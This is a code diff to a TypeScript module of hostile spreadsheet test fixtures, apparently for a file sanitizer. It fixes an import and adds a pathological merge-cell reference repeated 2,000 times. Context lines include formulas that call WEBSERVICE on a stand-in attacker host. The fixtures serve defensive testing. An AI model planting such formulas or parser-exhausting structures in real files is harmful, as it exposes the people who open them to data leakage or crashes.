@@ -1,6 +1,6 @@
 import { CANARY, CANARY_ZH, type HostileFile, SHARE } from './hostile-file.ts'
 import { office, xlsx } from './office-file.ts'
-import { PIXEL } from './word.ts'
+import { PIXEL } from './word-file.ts'
 
 const TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml'
 const S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
@@ -164,6 +164,11 @@ export const sheets: readonly HostileFile[] = [
         inSheet:
           '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE("http://evil.example")</formula></cfRule></conditionalFormatting><dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>WEBSERVICE("http://evil.example")</formula1></dataValidation></dataValidations>',
       }),
+  },
+  {
+    what: 'a range of cells that can be read in more ways than there are atoms',
+    is: 'cleaned',
+    make: () => xlsx({ inSheet: `<mergeCells><mergeCell ref="${'A1'.repeat(2_000)}!"/></mergeCells>` }),
   },
   {
     what: 'scenarios, protection and printers with a name',
